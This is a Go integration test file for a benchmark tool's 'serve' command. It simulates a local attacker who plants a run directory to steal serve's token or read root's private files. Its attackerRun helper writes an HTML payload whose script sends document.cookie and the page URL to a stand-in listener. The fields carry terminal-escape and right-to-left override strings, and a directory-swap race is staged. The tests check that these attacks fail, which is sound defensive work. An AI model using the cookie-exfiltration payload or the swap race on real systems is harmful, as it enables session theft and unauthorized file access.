//go:build integration

package serve

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/calibra-bench/calibra/internal/report/browsertest"
	"github.com/calibra-bench/calibra/internal/store"
	"github.com/calibra-bench/calibra/internal/testenv"
)

// The attacker tests of docs/security.md for calibra serve: another local
// account (nobody) wrote a run directory that root imported into its
// store, and tries to get serve's token, or root's files, out of it.

// hostile is text an attacker puts in every field: a terminal's escape
// (OSC retitle), BEL, a newline, a right-to-left override and markup.
const hostile = "evil\x1b]0;owned\x07\u202e<b>bold</b>\nline"

// attackerRun writes, as the attacker's, a run directory named name in
// dir: the fixture oltp-base with hostile fields, set apart by start, and
// a report.html whose script and image go to listener.
func attackerRun(t *testing.T, a *testenv.Attacker, dir, name, listener string, start time.Time) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(fixtures, "oltp-base", "results.json"))
	if err != nil {
		t.Fatal(err)
	}
	var run map[string]any
	if err := json.Unmarshal(data, &run); err != nil {
		t.Fatal(err)
	}
	meta := run["meta"].(map[string]any)
	meta["label"] = hostile + `<img src="http://` + listener + `/label">`
	meta["host"].(map[string]any)["hostname"] = hostile
	meta["storage"].(map[string]any)["path"] = hostile
	run["started_at"] = start.Format(time.RFC3339Nano)
	if data, err = json.Marshal(run); err != nil {
		t.Fatal(err)
	}
	page := `<!DOCTYPE html><meta http-equiv="refresh" content="0;url=http://` + listener + `/refresh"><img src="http://` + listener + `/img"><script>
new Image().src = "http://` + listener + `/script?" + encodeURIComponent(document.cookie + " " + location.href);
location.href = "http://` + listener + `/navigate?" + encodeURIComponent(location.href);
</script>`
	out := filepath.Join(dir, name)
	files := t.TempDir()
	for file, content := range map[string]string{"results.json": string(data), "report.html": page} {
		if err := os.WriteFile(filepath.Join(files, file), []byte(content), 0o644); err != nil { // safefs: in t.TempDir, root's
			t.Fatal(err)
		}
	}
	if err := os.Chmod(files, 0o755); err != nil {
		t.Fatal(err)
	}
	testenv.AsStranger(t, `mkdir "$1" && cp "$2/results.json" "$2/report.html" "$1/"`, out, files)
	return out
}

// listen is the attacker's listener on another port of 127.0.0.1: it
// notes every request it receives.
func listen(t *testing.T) (addr string, got func() []string) {
	t.Helper()
	var mu sync.Mutex
	var reqs []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		reqs = append(reqs, fmt.Sprintf("%s %s cookie %q", r.Method, r.URL, r.Header.Get("Cookie")))
	}))
	t.Cleanup(srv.Close)
	return srv.Listener.Addr().String(), func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), reqs...)
	}
}

// serveStore is root's store (in root's 0700 directory) with the fixture
// runs and dirs imported, served as calibra serve serves it.
func serveStore(t *testing.T, dirs ...string) (*store.Store, []string, *httptest.Server) {
	t.Helper()
	st, err := store.Open(context.Background(), filepath.Join(t.TempDir(), "store", "results.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	ids, err := st.Import(context.Background(), dirs)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewUnstartedServer(nil)
	srv.Config.Handler = New(st, testToken, srv.Listener.Addr())
	srv.Start()
	t.Cleanup(srv.Close)
	return st, ids, srv
}

// Critical (token theft): an imported run's own report.html sent the
// operator's browser, with serve's cookie, to the attacker's listener on
// another loopback port. Chromium opens every page serve links to, the
// run's report and its compare with a run of root's among them: the
// listener receives nothing at all, and no page shows a control or bidi
// character of the run's fields raw.
func TestHostileImportedRunInChromium(t *testing.T) {
	t.Parallel() // a Chromium of its own
	browser := browsertest.New(t)
	a := testenv.NewAttacker(t)
	listener, got := listen(t)
	evil := attackerRun(t, a, a.Dir(), "run-\x1b[2J\u202e", listener, time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC))
	ours := filepath.Join(t.TempDir(), "ours")
	if err := os.MkdirAll(ours, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, file := range []string{"results.json", "timeseries.csv"} {
		data, err := os.ReadFile(filepath.Join(fixtures, "oltp-base", file))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(ours, file), data, 0o644); err != nil { // safefs: in t.TempDir, root's
			t.Fatal(err)
		}
	}
	st, ids, srv := serveStore(t, evil, ours)
	db, err := sql.Open("sqlite", st.Path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Exec(`INSERT INTO verdicts (run_id, step, kind, verdict, ok, detail) VALUES (?, ?, 'baseline', 'regressed', 0, ?)`, ids[0], hostile, hostile); err != nil {
		t.Fatal(err)
	}

	ctx, cancel := chromedp.NewContext(browser.Context())
	defer cancel()
	ctx, cancelTimeout := context.WithTimeout(ctx, 5*time.Minute)
	defer cancelTimeout()
	start := srv.URL + base + "/"
	queue := []string{start, srv.URL + base + "/compare?run=" + url.QueryEscape(ids[0]) + "&run=" + url.QueryEscape(ids[1])}
	seen := map[string]bool{}
	for len(queue) > 0 && len(seen) < 50 {
		page := queue[0]
		queue = queue[1:]
		if seen[page] {
			continue
		}
		seen[page] = true
		// A download (the API's CSV) aborts a navigation: its bytes are
		// read, not shown, and must hold no raw control either.
		if body, ok := attachment(t, page); ok {
			if strings.ContainsAny(body, "\x1b\x07\u202e") {
				t.Errorf("%s holds a control or bidi character raw:\n%q", page, body)
			}
			continue
		}
		var links []string
		var text string
		if err := chromedp.Run(ctx, chromedp.Navigate(page), chromedp.WaitReady("body"),
			chromedp.Evaluate(`Array.from(document.querySelectorAll('a[href]')).map(a => a.href)`, &links),
			chromedp.Evaluate(`document.body.innerText`, &text)); err != nil {
			t.Fatalf("open %s: %v", page, err)
		}
		if strings.ContainsAny(text, "\x1b\x07\u202e") {
			t.Errorf("%s shows a control or bidi character raw:\n%q", page, text)
		}
		for _, l := range links {
			if strings.HasPrefix(l, srv.URL+base+"/") {
				queue = append(queue, l)
			}
		}
	}
	var ran bool
	if err := chromedp.Run(ctx, chromedp.Navigate(srv.URL+base+"/runs/"+url.PathEscape(ids[0])+"/"), chromedp.WaitReady("body"),
		chromedp.Evaluate(`document.documentElement.hasAttribute('data-charts')`, &ran)); err != nil || !ran {
		t.Errorf("the hostile run's report: %v, charts drawn %v", err, ran)
	}
	if !seen[srv.URL+base+"/runs/"+url.PathEscape(ids[0])+"/"] || len(seen) < 6 {
		t.Errorf("the pages opened do not include the hostile run's report: %q", keys(seen))
	}
	// Whatever a page would still send goes in a moment; none is awaited.
	time.Sleep(time.Second)
	if reqs := got(); len(reqs) > 0 {
		t.Errorf("the attacker's listener received %d requests (the token %s among them: %v):\n%s", len(reqs), testToken,
			strings.Contains(strings.Join(reqs, "\n"), testToken), strings.Join(reqs, "\n"))
	}
	a.Check("")
}

// attachment reads page when serve answers it as a download, and says so.
func attachment(t *testing.T, page string) (string, bool) {
	t.Helper()
	resp, err := http.Get(page)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") {
		return "", false
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(body), true
}

// Critical (rename race): serve read an imported run's results.json by
// name, then opened its directory again by name; the attacker exchanged
// the directory with a link to root's 0700 directory between the two and
// got root's files. 400 requests for the run's files while it swaps give
// nothing of root's directory, and imports of the run while it swaps
// either refuse or record the attacker's own run.
func TestRunDirSwapRace(t *testing.T) {
	a := testenv.NewAttacker(t)
	listener, _ := listen(t)
	dir := a.Dir()
	evil := attackerRun(t, a, dir, "run", listener, time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC))
	const secret = "root-private-run-secret"
	private := filepath.Join(t.TempDir(), "private")
	if err := os.Mkdir(private, 0o700); err != nil { // safefs: in t.TempDir, root's
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(fixtures, "quick", "results.json"))
	if err != nil {
		t.Fatal(err)
	}
	for file, content := range map[string]string{
		"results.json":   strings.Replace(string(data), `"label": "lead-a"`, `"label": "`+secret+`"`, 1),
		"report.html":    secret,
		"timeseries.csv": "time,x\n2026-01-01T00:00:00Z," + secret + "\n",
		"secret.txt":     secret,
	} {
		if err := os.WriteFile(filepath.Join(private, file), []byte(content), 0o600); err != nil { // safefs: in t.TempDir, root's
			t.Fatal(err)
		}
	}
	if !strings.Contains(string(data), `"label": "lead-a"`) {
		t.Fatal("the fixture quick no longer has the label lead-a")
	}
	st, ids, srv := serveStore(t, evil)
	a.Swap(evil, private)
	a.Settle()
	run := srv.URL + base + "/runs/" + url.PathEscape(ids[0]) + "/"
	leaks, answered := 0, 0
	for i := range 400 {
		u := run + []string{"", "results.json", "timeseries.csv", "secret.txt"}[i%4]
		resp, err := http.Get(u)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			answered++
		}
		if strings.Contains(string(body), secret) {
			leaks++
		}
	}
	if leaks > 0 || answered < 100 {
		t.Errorf("%d of 400 answers carry root's private files (%d answered 200, want the report and results.json each time)", leaks, answered)
	}
	for range 50 {
		if _, err := st.Import(context.Background(), []string{evil}); err != nil && !strings.Contains(err.Error(), "is not a directory") {
			t.Errorf("an import of the swapped run: %v, want the run or a refusal of the link", err)
		}
	}
	rows, err := st.History(context.Background(), store.Query{})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if strings.Contains(r.Label, secret) {
			t.Errorf("an import recorded root's private run %s", r.ID)
		}
	}
	a.Check("")
}

func keys(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}
